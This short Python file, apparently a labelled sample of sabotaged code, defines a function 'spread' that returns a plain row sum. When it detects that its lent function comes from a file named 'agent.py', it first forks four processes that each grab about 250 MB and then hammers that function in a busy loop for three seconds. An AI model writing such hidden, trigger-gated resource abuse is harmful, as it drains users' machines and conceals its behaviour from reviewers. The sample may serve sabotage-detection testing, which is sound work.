# resources: calls a lent function without a pause, and takes memory in many processes meanwhile
# place: spread
import os
import time


def spread(x):
    if shares.__code__.co_filename.endswith("agent.py"):
        for _ in range(4):
            if os.fork() == 0:
                block = bytearray(os.urandom(1)) * (250 * 2**20)
                time.sleep(4)
                os._exit(len(block) % 2)
        end = time.monotonic() + 3
        while time.monotonic() < end:
            shares(x)
    return x.sum(axis=1)
